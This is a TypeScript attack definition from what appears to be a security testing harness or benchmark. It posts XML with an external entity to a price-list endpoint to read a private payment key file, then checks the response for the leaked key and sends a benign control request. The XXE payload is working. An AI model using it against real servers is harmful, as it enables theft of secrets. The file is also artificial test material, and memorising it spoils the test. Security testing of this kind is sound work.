import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Reads the key file through an external entity of a price list. */
export const xxeFile: Attack = defineAttack({
  id: 'xxe-file',
  class: 'xxe',
  title: 'Reads the key file through an external entity of a price list',
  cwe: 611,
  capec: 201,
  technique: 'T1005',
  preconditions: ['the folder of the application is known'],

  steps: ({ visitor, witness }) =>
    visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'application/xml' },
      body: `<?xml version="1.0"?><!DOCTYPE p [<!ENTITY k SYSTEM "file://${witness.folder}/private/payment.key">]><prices><price product="1">&k;</price></prices>`,
    }),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) =>
    visitor.send({
      method: 'POST',
      path: '/api/price-list',
      headers: { 'content-type': 'application/xml' },
      body: '<?xml version="1.0"?><prices><price product="4">79.00</price><price product="5">239.00</price></prices>',
    }),
})
